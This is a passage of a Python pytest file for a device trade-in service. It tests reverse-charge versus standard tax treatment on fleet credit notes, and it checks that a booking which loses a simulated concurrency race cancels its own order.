    best = max(survey.lines, key=lambda line: line.amount.amount)
    count = int(Decimal(5000) / best.amount.amount) + 2
    watch = next(model for model in trade_in.catalog.models if model.category.value == "smartwatch")

    def settled_treatment(with_watch: bool) -> str:
        rows = [{"imei": imei("99009999", n), "model": best.variant_id, "grade": "A"} for n in range(count)]
        if with_watch:
            rows.append({"imei": imei("99008888", 1), "model": watch.variants[0].id, "grade": "A"})
        batch_id = trade_in.fleet_quote(company_id, asset_csv(rows)).batch_id or ""
        trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
        batch = trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
        trade_in.receive_batch(batch_id, [view.line.imei or "" for view in batch.lines])
        inspect_all(trade_in, batch_id, downgraded=set(), locked=set())
        trade_in.settle_batch(batch_id, issuer=ISSUER)
        note = json.loads(trade_in.fleet_document(batch_id, "credit_note_json").content)
        assert Decimal(note["payable"]["amount"]) >= 5000
        return str(note["treatment"])

    assert settled_treatment(with_watch=False) == "reverse_charge"
    assert settled_treatment(with_watch=True) == "standard"


def test_two_bookings_of_one_batch_leave_one_order(
    trade_in: TradeIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A booking that loses the race withdraws its own order: the company never has two."""
    company_id = open_company(trade_in)
    batch_id = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:4])).batch_id or ""
    save = FleetUseCases._save

    def raced(self: FleetUseCases, record: Any, version: int, state: Any, **kwargs: Any) -> None:  # noqa: ANN401
        if kwargs.get("action") == "fleet.pickup_booked":
            raise ConcurrentUpdateError(record.batch_id)
        save(self, record, version, state, **kwargs)

    monkeypatch.setattr(FleetUseCases, "_save", raced)
    with pytest.raises(BatchStateError) as lost:
        trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
    assert lost.value.reason == "busy"
    orders = trade_in.list_orders()
    assert len(orders) == 1
    assert {device.state for device in orders[0].devices} == {DeviceState.CANCELLED}
